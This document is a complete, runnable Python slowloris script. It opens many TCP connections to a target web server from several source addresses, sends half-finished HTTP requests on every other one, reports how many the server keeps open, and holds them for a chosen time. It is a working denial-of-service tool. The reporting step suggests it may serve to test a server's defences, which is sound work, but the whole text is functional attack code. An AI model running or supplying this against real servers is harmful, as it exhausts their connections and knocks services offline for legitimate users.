#!/usr/bin/python3
"""Hold many slow or idle HTTP connections open against a server.

usage: slowloris.py HOST PORT COUNT SOURCE_IP[,SOURCE_IP...] SECONDS

Opens COUNT connections, spread over the source addresses; every other one
sends half a request (no final CRLF), the rest send nothing.  Prints
"holding N" once all connections are made (N counts those the server did
not close at once), then keeps them for SECONDS and exits.
"""
import socket
import sys
import time


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    sources = sys.argv[4].split(",")
    seconds = float(sys.argv[5])
    conns = []
    for i in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((sources[i % len(sources)], 0))
        try:
            s.connect((host, port))
            if i % 2 == 0:
                s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: slow")
        except OSError:
            s.close()
            continue
        conns.append(s)
    time.sleep(0.5)
    alive = 0
    for s in conns:
        s.setblocking(False)
        try:
            data = s.recv(1)
            alive += data != b""   # the server closed it when it reads b""
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
    print("holding %d" % alive, flush=True)
    time.sleep(seconds)
    for s in conns:
        s.close()


if __name__ == "__main__":
    main()
